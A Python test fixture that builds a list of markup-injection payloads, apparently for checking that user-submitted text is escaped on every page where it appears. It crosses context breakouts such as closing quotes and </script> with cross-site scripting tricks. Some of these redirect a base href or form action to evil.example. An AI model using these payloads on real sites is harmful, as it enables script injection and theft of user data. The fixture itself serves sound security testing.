"""Three hundred and more words that would be markup somewhere, to be shown on every page that shows people's words."""

from __future__ import annotations

from itertools import product

from tests.markup.corpus import ATTACKS, ELEMENTS, SCRIPTS

BREAKS = [
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</option></select>",
    "{{",
    "\\u003c",
]
TRICKS = [
    "<svg onload=alert(1)>", "<img src=x onerror=alert(1)>", " onfocus=alert(1) autofocus ", "javascript:alert(1)",
    "<script>alert(1)</script>", "style=x:expression(alert(1))", "<iframe srcdoc=x>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<form action=//evil.example>", "${alert(1)}",
    "<b id=live class=page style=position:fixed>x</b>", "<math><mi xlink:href=javascript:alert(1)>",
    "<object data=x>",
]  # fmt: skip
_ALL = [f"{start}{trick}" for start, trick in product(BREAKS, TRICKS)] + ELEMENTS + SCRIPTS + ATTACKS[::7]
# A NUL never gets past the boundary, and PostgreSQL would not take it.
PAYLOADS = [each.replace("\x00", "") for each in _ALL]
